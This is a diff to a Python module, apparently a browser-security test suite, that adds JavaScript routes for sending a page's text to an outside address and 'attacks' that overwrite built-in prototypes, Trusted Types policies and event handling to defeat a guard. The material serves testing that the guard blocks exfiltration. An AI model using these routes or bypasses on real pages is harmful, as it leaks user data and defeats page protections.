@@ -1,5 +1,7 @@
 """Escape routes: scripts that try to get a text out of a page to the address `to`."""
 
+from collections.abc import Iterable
+
 CANARY = "canary-7f3a"
 
 SVG = "http://www.w3.org/2000/svg"
@@ -23,6 +25,10 @@ const peer = (Peer) => {{
 }};
 const peerOf = (frame) => peer(frame.contentWindow.RTCPeerConnection);
 const last = () => window[window.length - 1];
+const useRealm = (realm) => {{
+  realm.open.call(window, to);
+  peer(realm.RTCPeerConnection); // not in WebKit
+}};
 const link = (space, name, attribute, attributeSpace) => {{
   const element = document.createElementNS(space, name);
   element.setAttributeNS(attributeSpace ?? null, attribute, to);
@@ -35,6 +41,18 @@ const page = (text) => URL.createObjectURL(new Blob([text], {{ type: "text/html"
 const leading = () => page(`<meta http-equiv="refresh" content="0;url=${{to}}">`);
 const shadow = (mode) => add("div").attachShadow({{ mode }});
 const parsed = (text, type) => new DOMParser().parseFromString(text, type);
+const changing = (first, second) => ({{ count: 0, toString() {{ return this.count++ ? second : first }} }});
+const changingFrame = () => changing("<p></p>", "<iframe></iframe>");
+const prefixed = (name) => {{
+  const root = document.implementation.createDocument("{XHTML}", "html").documentElement;
+  root.innerHTML = `<x:${{name}} xmlns:x='{XHTML}'><x:iframe/></x:${{name}}>`;
+  return root.firstChild;
+}};
+const leave = (link) => Object.assign(link, {{ href: to, target: "_blank" }});
+const changedByListener = (link) => {{
+  link.onclick = () => {{ link.removeAttribute("download"); leave(link) }};
+  link.click();
+}};
 """
 """The helpers of the scripts below."""
 
@@ -125,6 +143,15 @@ CONNECTIONS = {
     "`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
     "<xsl:template match='/'><xsl:copy-of select=\"document('${to}')\"/></xsl:template>"
     "</xsl:stylesheet>`, 'text/xml')); x.transformToFragment(document, document)",
+    "stylesheet of an instruction": "document.insertBefore(document.createProcessingInstruction("
+    "'xml-stylesheet', `href='${to}' type='text/css'`), document.documentElement)",
+    "preconnect by a sanitizer": "add('div').setHTML(`<link rel='preconnect' href='${to}'>`,"
+    " {sanitizer: {elements: ['link'], attributes: ['rel', 'href']}})",
+    "artwork of a media session": "navigator.mediaSession.metadata ="
+    " new MediaMetadata({title: canary, artwork: [{src: to}]})",
+    "icon of a notification": "new Notification(canary, {icon: to})",
+    "end of an identity": "IdentityCredential.disconnect({configURL: to, clientId: canary,"
+    " accountHint: canary}).catch(() => {})",
     "entity of XML": "parsed(`<!DOCTYPE a [<!ENTITY e SYSTEM '${to}'>]><a>&e;</a>`, 'text/xml')",
 }  # fmt: skip
 """Requests of the page itself, which its policy or its guard must refuse."""
@@ -174,6 +201,39 @@ REALMS = {
     " document.body.append(make('frame')); peer(last().RTCPeerConnection); document.body = b",
     "of an object": "peerOf(add('object', {type: 'text/html', data: 'about:blank'}))",
     "of an embedded page": "peerOf(add('embed', {type: 'text/html', src: 'about:blank'}))",
+    "of a frame by markup read twice": "add('div').innerHTML = changingFrame();"
+    " useRealm(last())",
+    "of a frame by outer markup read twice": "add('div').outerHTML = changingFrame();"
+    " useRealm(last())",
+    "of a frame by added markup read twice": "markup(changingFrame());"
+    " useRealm(last())",
+    "of a frame by a command read twice": "add('p', {contentEditable: 'true'}).focus();"
+    " document.execCommand('insertHTML', false, changingFrame()); useRealm(last())",
+    "of a frame with a name read twice": "document.body.append(document.createElement("
+    "changing('p', 'iframe'))); useRealm(last())",
+    "of a frame with a prefix": "document.body.append(prefixed('div'));"
+    " useRealm(last())",
+    "of a frame in a caption": "add('table').caption = prefixed('caption');"
+    " useRealm(last())",
+    "of a frame in a head": "add('table').tHead = prefixed('thead');"
+    " useRealm(last())",
+    "of a frame in a foot": "add('table').tFoot = prefixed('tfoot');"
+    " useRealm(last())",
+    "of a frame in a list": "add('select').add(prefixed('option'));"
+    " useRealm(last())",
+    "of a frame in options": "add('select').options.add(prefixed('option'));"
+    " useRealm(last())",
+    "of a frame in a parsed caption": "add('table').caption = parsed('<table><caption><iframe>"
+    "</iframe></caption></table>', 'text/html').querySelector('caption');"
+    " useRealm(last())",
+    "of a frame of a template": "add('table').caption = make('template', {innerHTML: '<table>"
+    "<caption><iframe></iframe></caption></table>'}).content.querySelector('caption');"
+    " useRealm(last())",
+    "of a frame in a new document": "document.body.append(document.implementation.createDocument("
+    f"'{XHTML}', 'iframe').documentElement); useRealm(last())",
+    "of a frame of one's own": "const F = class extends window.HTMLIFrameElement {};"
+    " customElements.define(`x-${new URL(to).port}`, F, {extends: 'iframe'});"
+    " document.body.append(new F()); useRealm(last())",
     "image of a frame": "new (add('iframe').contentWindow.Image)().src = to",
     "fetch of a frame": "add('iframe').contentWindow.fetch(to).catch(() => {})",
     "address of a frame": "add('iframe').contentWindow.location = to",
@@ -211,6 +271,33 @@ WINDOWS = {
     " const a = [...document.querySelectorAll('svg a')].at(-1);"
     " setTimeout(() => press(a), 100)",
     "blob in a new tab": "make('a', {href: leading(), target: '_blank'}).click()",
+    "link with two addresses": "const a = make('a'); a.setAttributeNS("
+    f"'{XLINK}', 'href', '#tokens'); a.setAttributeNS(null, 'href', to); a.target = '_blank';"
+    " a.click()",
+    "link without a prototype": "const a = leave(make('a')); Object.setPrototypeOf(a, null);"
+    " Reflect.apply(window.HTMLElement.prototype.click, a, [])",
+    "link that hides its content": "const a = leave(make('a')), b = make('b'); a.append(b);"
+    " Object.defineProperty(b, 'parentNode', {value: null}); press(b)",
+    "link with an event that has stopped": "const e = new MouseEvent('click', {bubbles: true,"
+    " cancelable: true}); e.stopImmediatePropagation(); leave(add('a')).dispatchEvent(e)",
+    "link that a listener changes": "changedByListener(add('a', {href: '#tokens'}))",
+    "file that a listener changes": "changedByListener(make('a', {href: leading(),"
+    " download: 'saved'}))",
+    "link activated": "leave(add('a')).dispatchEvent(new UIEvent('DOMActivate',"
+    " {bubbles: true, cancelable: true}))",
+    "link that gets the focus": "leave(add('a', {textContent: 'there'})).focus()",
+    "link that gets the focus of its fragment": "leave(add('a', {textContent: 'there',"
+    " id: canary})); location.hash = canary",
+    "link that gets the focus of a dialog": "const d = add('dialog');"
+    " d.append(leave(make('a', {textContent: 'there'}))); d.showModal(); d.close()",
+    "link that gets the focus by a command": "const d = add('dialog', {id: 'opened'}),"
+    " a = make('a', {textContent: 'there'}), b = add('button', {onclick: () => leave(a)});"
+    " d.append(a); b.setAttribute('command', 'show-modal'); b.setAttribute('commandfor', 'opened');"
+    " try { b.click() } finally { d.close(); d.remove() }",
+    "link that is found": "const a = leave(add('a', {textContent: `found-${host}`}));"
+    " window.find(`found-${host}`)",
+    "link by a key": "const a = add('a', {textContent: 'there', tabIndex: 0}); a.focus();"
+    " leave(a).dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', bubbles: true}))",
     "existing link to a new tab": "const a = document.querySelector('.source a');"
     " a.href = to; a.target = '_blank'; a.click()",
 }  # fmt: skip
@@ -257,6 +344,100 @@ CLICKED = {
     "link in MathML": "markup(`<math id='route' href='${to}'><mtext>route</mtext></math>`)",
 }  # fmt: skip
 """Elements that a script inserts, and that a user then clicks with the left or middle button."""
+
+
+ATTACKS = {
+    "": "",
+    "arrays": """for (const name of ["every", "filter", "forEach", "includes", "map", "some"])
+        swap(Array.prototype, name, () => false);
+        swap(Array.prototype, Symbol.iterator, function* () {})""",
+    "iterators": """swap(Object.getPrototypeOf(new Array()[Symbol.iterator]()), "next",
+        () => ({ done: true }))""",
+    "sets": "swap(Set.prototype, 'has', () => true)",
+    "patterns": """swap(RegExp.prototype, "exec", () => null);
+        swap(RegExp.prototype, "test", function () { return /Element/.source in this })""",
+    "strings": """swap(String.prototype, "split", () => [""]);
+        swap(String.prototype, "startsWith", () => true)""",
+    "addresses": """swap(window, "URL", function () { this.href = location.href });
+        swap(URL.prototype, "href", { get: () => location.href })""",
+    "kinds": """for (const name of ["Node", "Element", "Attr", "HTMLLinkElement", "HTMLMetaElement",
+        "HTMLAnchorElement", "SVGElement", "MouseEvent"]) {
+            swap(window[name], Symbol.hasInstance, () => false);
+            swap(window, name, function () {}) }""",
+    "nodes": """swap(Node.prototype, "parentNode", { get: () => null });
+        for (const name of ["localName", "namespaceURI", "attributes"])
+            swap(Element.prototype, name, { get: () => null });
+        for (const name of ["closest", "getAttribute", "getAttributeNS", "matches", "removeAttribute",
+            "removeAttributeNS", "querySelectorAll"]) swap(Element.prototype, name, () => null)""",
+    "events": """for (const name of ["preventDefault", "stopPropagation"])
+            swap(Event.prototype, name, () => {});
+        swap(Event.prototype, "composedPath", () => []);
+        for (const name of ["type", "cancelable", "isTrusted"])
+            swap(Event.prototype, name, { get: () => "" })""",
+    "navigation": """for (const [name, value] of [["hashChange", true], ["userInitiated", true],
+            ["cancelable", false], ["navigationType", "reload"], ["downloadRequest", ""]])
+            swap(window.NavigateEvent?.prototype, name, { get: () => value });
+        swap(window.NavigationDestination?.prototype, "url", { get: () => location.href })""",
+    "listeners": """for (const [target, name] of [[window, "click"], [window, "auxclick"],
+            [window, "submit"], [document, "click"], [window.navigation, "navigate"]])
+            target?.addEventListener(name, (event) => event.stopImmediatePropagation(),
+                { capture: true, signal: ended.signal })""",
+    "functions": """for (const name of ["apply", "call", "bind"])
+            swap(Function.prototype, name, () => {});
+        for (const name of ["apply", "construct", "defineProperty", "ownKeys"])
+            swap(Reflect, name, () => {});
+        for (const name of ["freeze", "getOwnPropertyDescriptor"]) swap(Object, name, () => {});
+        for (const name of ["get", "set", "value", "configurable"])
+            swap(Object.prototype, name, { get: () => undefined })""",
+    "policies": """for (const name of ["default", "other"]) try { trustedTypes.createPolicy(name,
+            { createHTML: String, createScript: String, createScriptURL: String }) } catch {}
+        swap(window.trustedTypes, "defaultPolicy", null);
+        for (const meta of document.querySelectorAll("[http-equiv]")) meta.remove()""",
+}  # fmt: skip
+"""Changes of what a guard may rely on. `swap` and `ended` take them back when all is tried."""
+
+SWAPS = """
+const { Array, Element, Event, Function, Node, Object, Reflect, RegExp, Set, String, Symbol, URL } = window;
+const swaps = [], { defineProperty, getOwnPropertyDescriptor } = Object, ended = new AbortController();
+const swap = (owner, name, value) => {
+  const before = owner && getOwnPropertyDescriptor(owner, name);
+  if (!owner) return;
+  swaps[swaps.length] = { owner, name, before };
+  try { defineProperty(owner, name, typeof value === "object" && value ? { ...value, configurable: true }
+      : { value, writable: true, configurable: true }) } catch {}
+};
+const changed = () => {
+  let count = 0;
+  for (let at = 0; at < swaps.length; at++) {
+    const { owner, name, before } = swaps[at], now = getOwnPropertyDescriptor(owner, name);
+    if (now?.value !== before?.value || now?.get !== before?.get) count++;
+  }
+  return count;
+};
+const restore = () => {
+  ended.abort();
+  while (swaps.length) {
+    const { owner, name, before } = swaps.pop();
+    try { before ? defineProperty(owner, name, before) : delete owner[name] } catch {}
+  }
+};
+"""
+"""The helpers of `ATTACKS`. The page's own objects are used, since Firefox's driver has others."""
+
+
+def attack_script(attack: str, routes: Iterable[str]) -> str:
+    """Return a script that tries routes during an attack, with the addresses as its argument.
+
+    It returns the number of routes tried, and of the swaps that had an effect.
+    """
+    functions = ",".join(f"(to) => {{ {TOOLS} {ROUTES[route]} }}" for route in routes)
+    return f"""const addresses = arguments[0], routes = [{functions}];
+        {SWAPS} {ATTACKS[attack]};
+        let tried = 0;
+        for (; tried < routes.length; tried++) try {{ routes[tried](addresses[tried]) }} catch {{}}
+        const effects = changed();
+        restore();
+        return [tried, effects];"""
 
 
 def attempt_script(route: str, routes: dict[str, str] = ROUTES) -> str:
